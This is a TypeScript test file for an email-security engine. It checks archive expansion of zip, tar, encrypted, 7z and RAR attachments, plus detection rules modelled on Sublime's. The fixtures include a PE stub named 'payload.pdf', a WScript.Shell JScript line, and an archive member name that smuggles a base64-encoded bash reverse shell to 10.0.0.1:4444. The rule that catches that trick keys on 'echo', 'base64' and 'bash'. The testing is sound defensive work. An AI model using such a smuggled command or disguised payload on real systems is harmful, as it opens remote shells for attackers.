import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { MessageModel } from '../../../../src/core/message.ts';
import { analyzeAttachments } from '../../../../src/engine/attachments/analyze-attachments.ts';
import { DEFAULT_LIMITS, type Limits } from '../../../../src/engine/limits.ts';
import { listSource } from '../../../helpers/list-source.ts';
import { attachment, docx, encryptedZip, modelWith, nestedZip, textPdf, zip } from '../attachments/fixtures/build-files.ts';
import { sevenZipListing } from '../attachments/fixtures/build-lzma.ts';
import { evalMql } from './eval-helper.ts';

const RAR5 = Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1');
const PE = Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(126)]);

async function analysed(name: string, bytes: Uint8Array, text?: string, limits: Limits = DEFAULT_LIMITS): Promise<MessageModel> {
  const model = modelWith([attachment(name, bytes)], text);
  await analyzeAttachments(model, limits);
  return model;
}

interface File {
  file_name: string | null;
  file_extension: string | null;
  file_type: string | null;
  content_type: string | null;
  size: number | null;
  sha256: string | null;
  depth: number;
}
const filesOf = (model: MessageModel) => evalMql('file.expand_archives(attachments[0]).files', { model }) as File[];

/** A ustar archive of the given files. */
function tar(entries: Record<string, Uint8Array>): Uint8Array {
  const blocks: Buffer[] = [];
  for (const [name, data] of Object.entries(entries)) {
    const h = Buffer.alloc(512);
    h.write(name, 0, 'latin1');
    h.write('0000644\0', 100, 'latin1');
    h.write(data.length.toString(8).padStart(11, '0') + '\0', 124, 'latin1');
    h[156] = 0x30;
    h.write('ustar\x0000', 257, 'latin1');
    h.write('        ', 148, 'latin1');
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
    blocks.push(h, Buffer.from(data), Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  return new Uint8Array(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

describe('file.expand_archives', () => {
  it('lists the files of a zip shaped like attachments, typed by their content', async () => {
    const model = await analysed('bundle.zip', await zip({ 'docs/readme.txt': 'hello', 'payload.pdf': PE, 'inner.rar': RAR5 }));
    const files = filesOf(model);
    expect(files.map((f) => [f.file_name, f.file_extension, f.file_type, f.depth])).toEqual([
      ['docs/readme.txt', 'txt', 'txt', 1],
      ['payload.pdf', 'pdf', 'exe', 1],
      ['inner.rar', 'rar', 'rar', 1],
    ]);
    expect(files[0]!.size).toBe(5);
    expect(files[0]!.sha256).toBe(createHash('sha256').update('hello').digest('hex'));
    expect(files[2]!.content_type).toBe('application/vnd.rar');
    expect(evalMql('any(file.expand_archives(attachments[0]).files, .file_type == "rar")', { model })).toBe(true);
    expect(evalMql('any(file.expand_archives(attachments[0]).files, .file_type == "7z")', { model })).toBe(false);
  });

  it('expands nested archives (zip in zip, tar in gzip), listing the inner archive and what it holds', async () => {
    const inner = await zip({ 'run.js': 'WScript.Shell' });
    const files = filesOf(await analysed('outer.zip', await zip({ 'inner.zip': inner, 'a.txt': 'x' })));
    expect(files.map((f) => [f.file_name, f.depth])).toEqual([['inner.zip', 1], ['run.js', 2], ['a.txt', 1]]);
    const tgz = gzipSync(tar({ 'setup.exe': PE, 'notes.txt': new TextEncoder().encode('hi') }));
    const fromTgz = filesOf(await analysed('release.tgz', tgz));
    expect(fromTgz.map((f) => [f.file_name, f.file_type, f.depth])).toEqual([
      ['release.tar', 'tar', 1], ['setup.exe', 'exe', 2], ['notes.txt', 'txt', 2],
    ]);
  });

  it('goes no deeper than the analysis: the archive depth limit holds', async () => {
    const limits = { ...DEFAULT_LIMITS, maxArchiveDepth: 2 };
    const model = await analysed('deep.zip', await nestedZip(5), undefined, limits);
    const files = filesOf(model);
    expect(files.map((f) => f.file_name)).toEqual(['level-2.zip', 'level-3.zip']);
    expect(Math.max(...files.map((f) => f.depth))).toBe(2);
    expect(model.attachments[0]!.explode!.find((n) => n.file_name === 'level-3.zip')!.flags).toContain('nesting_limit');
    // With room for every level, the innermost file is listed.
    const all = filesOf(await analysed('deep.zip', await nestedZip(5)));
    expect(all.map((f) => f.file_name)).toEqual(['level-2.zip', 'level-3.zip', 'level-4.zip', 'level-5.zip', 'core.txt']);
  });

  it('lists the entries of an encrypted zip by name, content fields null, unless the message gave the password', async () => {
    const locked = encryptedZip({ 'Invoice.js': 'var s = new ActiveXObject("WScript.Shell");', 'readme.txt': 'open it' }, 'Inv2024');
    const closed = filesOf(await analysed('invoice.zip', locked, 'See the attached invoice.'));
    expect(closed).toEqual([
      { file_name: 'Invoice.js', file_extension: 'js', file_type: 'js', content_type: null, size: null, md5: null, sha1: null, sha256: null, depth: 1 },
      { file_name: 'readme.txt', file_extension: 'txt', file_type: 'txt', content_type: null, size: null, md5: null, sha1: null, sha256: null, depth: 1 },
    ]);
    const opened = filesOf(await analysed('invoice.zip', locked, 'Password: Inv2024'));
    expect(opened.map((f) => [f.file_name, f.size])).toEqual([['Invoice.js', 43], ['readme.txt', 7]]);
    expect(opened.every((f) => f.sha256 !== null)).toBe(true);
  });

  it('lists the files of a 7z or RAR from its headers: typed by extension, listed size, no content fields', async () => {
    const sz = sevenZipListing([{ name: 'x', directory: true }, { name: 'x/inner.rar', size: 900 }, { name: 'a.txt', size: 4 }], { encodeHeader: true });
    const files = filesOf(await analysed('files.7z', sz));
    expect(files).toEqual([
      { file_name: 'x/inner.rar', file_extension: 'rar', file_type: 'rar', content_type: null, size: 900, md5: null, sha1: null, sha256: null, depth: 1 },
      { file_name: 'a.txt', file_extension: 'txt', file_type: 'txt', content_type: null, size: 4, md5: null, sha1: null, sha256: null, depth: 1 },
    ]);
    // A 7z inside a zip: the zip's member, then what the 7z lists, one level deeper.
    const nested = filesOf(await analysed('outer.zip', await zip({ 'files.7z': sz })));
    expect(nested.map((f) => [f.file_name, f.file_type, f.depth])).toEqual([['files.7z', '7z', 1], ['x/inner.rar', 'rar', 2], ['a.txt', 'txt', 2]]);
  });

  it('does not expand documents: an Office file or a PDF has no archive members', async () => {
    expect(filesOf(await analysed('letter.docx', await docx()))).toEqual([]);
    expect(filesOf(await analysed('doc.pdf', textPdf('hello')))).toEqual([]);
    // A document inside an archive is a member; its own parts are not.
    const files = filesOf(await analysed('pack.zip', await zip({ 'letter.docx': await docx() })));
    expect(files.map((f) => [f.file_name, f.file_type])).toEqual([['letter.docx', 'docx']]);
  });

  it('is null without the attachment analysis, and for a value that is not an attachment', () => {
    const model = modelWith([attachment('a.zip', 'PK\x03\x04')]);
    expect(evalMql('file.expand_archives(attachments[0])', { model })).toBeNull();
    expect(evalMql('file.expand_archives(subject.subject)', { model })).toBeNull();
  });
});

describe("Sublime's rule for a 7z archive containing a RAR file", () => {
  const RULE = `any(attachments,
    (.file_extension in~ $file_extensions_common_archives and .file_type == "7z")
    and any(file.expand_archives(.).files, .file_type == "rar")
  )`;
  const lists = listSource({ file_extensions_common_archives: ['zip', 'rar', '7z'] });
  const run = async (name: string, bytes: Uint8Array) => evalMql(RULE, { model: await analysed(name, bytes), lists });

  it('matches a 7z that lists a .rar file', async () => {
    expect(await run('order.7z', sevenZipListing([{ name: 'order.rar', size: 5_000 }, { name: 'note.txt', size: 10 }]))).toBe(true);
  });

  it('does not match a 7z without one, nor a zip holding a RAR', async () => {
    expect(await run('order.7z', sevenZipListing([{ name: 'order.pdf', size: 5_000 }]))).toBe(false);
    expect(await run('order.zip', await zip({ 'order.rar': RAR5 }))).toBe(false);
  });
});

describe('a rule over file.expand_archives', () => {
  // The shape of Sublime's VShell rule (a bash command base64-encoded in a file name inside an archive).
  const RULE = `any(attachments,
    (.file_type in $file_extensions_common_archives or strings.contains(.file_name, "{"))
    and any(file.expand_archives(.).files,
            strings.contains(.file_name, "{")
            and (strings.icontains(.file_name, 'echo,') or strings.icontains(.file_name, 'base64') or regex.icontains(.file_name, '\\bbash\\b'))
    )
  )`;
  const lists = listSource({ file_extensions_common_archives: ['zip', 'rar', '7z', 'gz', 'tar'] });
  const hit = async (entries: Record<string, string>) => evalMql(RULE, { model: await analysed('docs.zip', await zip(entries)), lists });

  it('matches a member whose name carries the command, however deep', async () => {
    const name = 'Invoice.pdf{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=}|{base64,-d}|bash}';
    expect(await hit({ [name]: 'x' })).toBe(true);
    const nested = await zip({ 'more.zip': await zip({ [name]: 'x' }) });
    expect(evalMql(RULE, { model: await analysed('docs.zip', nested), lists })).toBe(true);
  });

  it('does not match ordinary names, nor a brace without a command', async () => {
    expect(await hit({ 'Invoice.pdf': 'x', 'photo.jpg': 'y' })).toBe(false);
    expect(await hit({ 'report {final}.pdf': 'x' })).toBe(false);
  });
});
